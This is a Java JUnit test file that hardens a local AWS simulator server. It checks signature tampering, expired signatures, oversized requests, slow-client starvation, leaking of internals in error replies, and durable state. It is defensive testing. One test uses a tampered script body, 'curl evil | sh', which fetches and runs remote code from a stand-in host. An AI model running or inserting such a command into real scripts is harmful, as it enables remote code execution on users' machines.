package io.hyperpod.prereqs.simulator.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import io.hyperpod.prereqs.simulator.AwsSimulator;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.http.ContentStreamProvider;
import software.amazon.awssdk.http.SdkHttpMethod;
import software.amazon.awssdk.http.SdkHttpRequest;
import software.amazon.awssdk.http.auth.aws.signer.AwsV4HttpSigner;
import software.amazon.awssdk.http.auth.spi.signer.SignedRequest;
import software.amazon.awssdk.identity.spi.AwsCredentialsIdentity;
import software.amazon.awssdk.services.ec2.Ec2Client;
import software.amazon.awssdk.services.ec2.model.Ec2Exception;
import software.amazon.awssdk.services.iam.IamClient;
import software.amazon.awssdk.services.iam.model.IamException;
import software.amazon.awssdk.services.s3.S3Client;
import software.amazon.awssdk.services.s3.model.S3Exception;

/**
 * The served simulator left running: tampered, stale and oversized requests refused with AWS's
 * errors, slow clients unable to starve others, unexpected failures answered without internals,
 * every acknowledged change on disk.
 */
class SimulatorServerHardeningTest {
  static final String KEY = "AKIASTRICT";
  static final String SECRET = "s3cr3t";

  @TempDir Path dir;

  final List<String> log = new CopyOnWriteArrayList<>();

  SimulatorServer.Builder strict(AwsSimulator simulator) {
    return SimulatorServer.builder(simulator)
        .clock(ServedClock.MANUAL)
        .accessKey(SimulatedAccessKey.of(KEY, AwsSimulator.DEFAULT_ACCOUNT).secret(SECRET))
        .verifySignatures(true)
        .log(log::add);
  }

  @Test
  void signedIamRequest_withAnotherBody_isRefused_andTheOriginalPasses() throws Exception {
    AwsSimulator simulator = AwsSimulator.create();
    try (SimulatorServer server = strict(simulator).start()) {
      String body = "Action=CreateUser&UserName=alice&Version=2010-05-08";
      SignedRequest signed = sign(server.endpoint(), "iam", "POST", "/", body, Map.of(
          "Content-Type", "application/x-www-form-urlencoded; charset=utf-8"));

      HttpResponse<String> swapped =
          send(signed, body.replace("alice", "mallory"));
      HttpResponse<String> original = send(signed, body);

      assertThat(swapped.statusCode()).isEqualTo(403);
      assertThat(swapped.body()).contains("<Code>SignatureDoesNotMatch</Code>");
      assertThat(original.statusCode()).as(original.body()).isEqualTo(200);
      assertThat(simulator.backend("us-east-1").iam().findUser("mallory")).isEmpty();
      assertThat(simulator.backend("us-east-1").iam().findUser("alice")).isPresent();
    }
  }

  @Test
  void signedS3Put_withAnotherBody_isXAmzContentSha256Mismatch() throws Exception {
    AwsSimulator simulator = AwsSimulator.create();
    simulator.backend("us-east-1").s3().createBucket("sagemaker-strict");
    try (SimulatorServer server = strict(simulator).start()) {
      String good = "#!/bin/bash\necho on_create\n";
      SignedRequest signed = sign(server.endpoint(), "s3", "PUT", "/sagemaker-strict/on_create.sh",
          good, Map.of("x-amz-content-sha256", sha256(good)));

      HttpResponse<String> swapped = send(signed, "#!/bin/bash\ncurl evil | sh\n");
      HttpResponse<String> original = send(signed, good);

      assertThat(swapped.statusCode()).isEqualTo(400);
      assertThat(swapped.body()).contains("<Code>XAmzContentSHA256Mismatch</Code>")
          .contains("The provided 'x-amz-content-sha256' header does not match what was computed.");
      assertThat(original.statusCode()).as(original.body()).isEqualTo(200);
      assertThat(new String(simulator.backend("us-east-1").s3()
          .getObject("sagemaker-strict", "on_create.sh").orElseThrow(),
          StandardCharsets.UTF_8)).isEqualTo(good);
    }
  }

  @Test
  void requestsSignedMoreThan15MinutesAgo_areRefusedAsAws() {
    Clock later = Clock.offset(Clock.systemUTC(), Duration.ofMinutes(20));
    try (SimulatorServer server = strict(AwsSimulator.create()).wallClock(later).start();
        IamClient iam = SdkClients.iam(server.endpoint(), SdkClients.credentials(KEY, SECRET));
        Ec2Client ec2 = Ec2Client.builder().endpointOverride(server.endpoint())
            .region(SdkClients.REGION).credentialsProvider(SdkClients.credentials(KEY, SECRET))
            .overrideConfiguration(c -> c.retryStrategy(
                software.amazon.awssdk.awscore.retry.AwsRetryStrategy.doNotRetry()))
            .build();
        S3Client s3 = S3Client.builder().endpointOverride(server.endpoint()).forcePathStyle(true)
            .region(SdkClients.REGION).credentialsProvider(SdkClients.credentials(KEY, SECRET))
            .overrideConfiguration(c -> c.retryStrategy(
                software.amazon.awssdk.awscore.retry.AwsRetryStrategy.doNotRetry()))
            .build()) {
      assertThatExceptionOfType(IamException.class)
          .isThrownBy(iam::listUsers)
          .satisfies(e -> {
            assertThat(e.awsErrorDetails().errorCode()).isEqualTo("SignatureDoesNotMatch");
            assertThat(e.awsErrorDetails().errorMessage())
                .matches("Signature expired: \\d{8}T\\d{6}Z is now earlier than \\d{8}T\\d{6}Z"
                    + " \\(\\d{8}T\\d{6}Z - 15 min\\.\\)");
          });
      assertThatExceptionOfType(Ec2Exception.class)
          .isThrownBy(ec2::describeVpcs)
          .satisfies(e -> assertThat(e.awsErrorDetails().errorCode()).isEqualTo("RequestExpired"));
      assertThatExceptionOfType(S3Exception.class)
          .isThrownBy(s3::listBuckets)
          .satisfies(e -> assertThat(e.awsErrorDetails().errorCode())
              .isEqualTo("RequestTimeTooSkewed"));
    }
  }

  @Test
  void oversizedRequests_areRefusedWithAwsErrors_beforeTheyAreKept() {
    AwsSimulator simulator = AwsSimulator.create();
    try (SimulatorServer server = SimulatorServer.builder(simulator).clock(ServedClock.MANUAL)
            .maxObjectSize(1024).maxRequestSize(2048).start();
        S3Client s3 = SdkClients.s3(server.endpoint(), SdkClients.REGION);
        IamClient iam = SdkClients.iam(server.endpoint(), SdkClients.anyCredentials())) {
      s3.createBucket(r -> r.bucket("sagemaker-bounded"));
      s3.putObject(r -> r.bucket("sagemaker-bounded").key("small"),
          RequestBody.fromBytes(new byte[1024]));

      assertThatExceptionOfType(S3Exception.class)
          .isThrownBy(() -> s3.putObject(r -> r.bucket("sagemaker-bounded").key("big"),
              RequestBody.fromBytes(new byte[1025])))
          .satisfies(e -> {
            assertThat(e.awsErrorDetails().errorCode()).isEqualTo("EntityTooLarge");
            assertThat(e.statusCode()).isEqualTo(400);
          });
      assertThatExceptionOfType(IamException.class)
          .isThrownBy(() -> iam.createUser(r -> r.userName("u").path("/" + "p/".repeat(1500))))
          .satisfies(e -> assertThat(e.statusCode()).isEqualTo(413));
      assertThat(simulator.backend("us-east-1").s3().getObject("sagemaker-bounded", "big"))
          .isEmpty();
      assertThat(simulator.backend("us-east-1").s3().getObject("sagemaker-bounded", "small"))
          .isPresent();
    }
  }

  @Test
  void slowClients_areCutOffAtTheReadDeadline_andOthersAreServed() throws Exception {
    try (SimulatorServer server = SimulatorServer.builder(AwsSimulator.create())
            .clock(ServedClock.MANUAL).threads(2).readTimeout(Duration.ofMillis(200)).start();
        IamClient iam = SdkClients.iam(server.endpoint(), SdkClients.anyCredentials())) {
      List<Socket> slow = new ArrayList<>();
      for (int i = 0; i < 6; i++) {
        Socket socket = new Socket("127.0.0.1", server.port());
        socket.setSoTimeout((int) Duration.ofSeconds(60).toMillis());
        OutputStream out = socket.getOutputStream();
        // half the clients stop inside their headers, half inside their body
        out.write((i % 2 == 0
            ? "POST / HTTP/1.1\r\nHost: x\r\nContent-Type: text/"
            : "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nAction=")
            .getBytes(StandardCharsets.US_ASCII));
        out.flush();
        slow.add(socket);
      }

      assertThat(iam.listUsers().users()).isEmpty();
      for (Socket socket : slow) {
        try (socket; InputStream in = socket.getInputStream()) {
          assertThat(readToEnd(in)).as("the server closed the slow connection").isTrue();
        }
      }
    }
  }

  @Test
  void junkInput_answersWithoutInternals_andAnUnexpectedFailureIsTheProtocolsInternalError()
      throws Exception {
    try (SimulatorServer server = SimulatorServer.builder(AwsSimulator.create())
        .clock(ServedClock.MANUAL).log(log::add).start()) {
      HttpResponse<String> junk = HttpClient.newHttpClient().send(
          HttpRequest.newBuilder(server.endpoint().resolve("/"))
              .header("Authorization", "AWS4-HMAC-SHA256 Credential=AKID/20250101/us-east-1/iam/"
                  + "aws4_request, SignedHeaders=host, Signature=00")
              .header("Content-Type", "application/x-www-form-urlencoded")
              .POST(HttpRequest.BodyPublishers.ofString(
                  "Action=ListUsers&Version=2010-05-08&Marker=%zz"))
              .build(),
          HttpResponse.BodyHandlers.ofString());

      assertThat(junk.statusCode()).isIn(400, 500);
      assertThat(junk.body()).startsWith("<?xml").contains("<ErrorResponse")
          .doesNotContain("Exception").doesNotContain("java.").doesNotContain("\tat ");
      if (junk.statusCode() == 500) {
        assertThat(junk.body()).contains("<Code>InternalFailure</Code>")
            .contains("We encountered an internal error. Please try again.");
        assertThat(log).anySatisfy(line -> assertThat(line).contains("IllegalArgumentException"));
      }
    }
  }

  @Test
  void everyAcknowledgedChange_isOnDiskWhileTheServerRuns_groupCommitted() throws Exception {
    Path file = dir.resolve("state.json");
    AwsSimulator simulator = AwsSimulator.create();
    int users = 24;
    try (SimulatorServer server = SimulatorServer.builder(simulator).clock(ServedClock.MANUAL)
            .stateFile(file).start();
        IamClient iam = SdkClients.iam(server.endpoint(), SdkClients.anyCredentials())) {
      ExecutorService clients = Executors.newFixedThreadPool(8);
      List<Future<?>> calls = new ArrayList<>();
      for (int i = 0; i < users; i++) {
        String name = "durable-" + i;
        calls.add(clients.submit(() -> iam.createUser(r -> r.userName(name))));
      }
      for (Future<?> call : calls) {
        call.get();
      }
      clients.shutdown();

      AwsSimulator onDisk = AwsSimulator.load(file);
      for (int i = 0; i < users; i++) {
        assertThat(onDisk.backend("us-east-1").iam().findUser("durable-" + i)).isPresent();
      }
      assertThat(server.stateSaves()).isBetween(1L, (long) users);
    }
  }

  private static boolean readToEnd(InputStream in) throws Exception {
    byte[] buffer = new byte[1024];
    try {
      while (in.read(buffer) >= 0) {
        // whatever the server answers before it closes
      }
      return true;
    } catch (java.net.SocketException reset) {
      return true; // closed under the client: a reset is a close too
    }
  }

  private static SignedRequest sign(
      URI endpoint, String service, String method, String path, String body,
      Map<String, String> headers) {
    SdkHttpRequest.Builder request = SdkHttpRequest.builder()
        .method(SdkHttpMethod.fromValue(method))
        .uri(endpoint.resolve(path));
    headers.forEach(request::putHeader);
    return AwsV4HttpSigner.create().sign(r -> r
        .identity(AwsCredentialsIdentity.create(KEY, SECRET))
        .request(request.build())
        .payload(ContentStreamProvider.fromUtf8String(body))
        .putProperty(AwsV4HttpSigner.SERVICE_SIGNING_NAME, service)
        .putProperty(AwsV4HttpSigner.REGION_NAME, "us-east-1"));
  }

  private static HttpResponse<String> send(SignedRequest signed, String body) throws Exception {
    HttpRequest.Builder request = HttpRequest.newBuilder(signed.request().getUri())
        .method(signed.request().method().name(),
            HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
    signed.request().headers().forEach((name, values) -> {
      if (!name.equalsIgnoreCase("Host") && !name.equalsIgnoreCase("Content-Length")) {
        values.forEach(v -> request.header(name, v));
      }
    });
    return HttpClient.newHttpClient().send(request.build(), HttpResponse.BodyHandlers.ofString());
  }

  private static String sha256(String text) throws Exception {
    return HexFormat.of().formatHex(
        MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8)));
  }
}
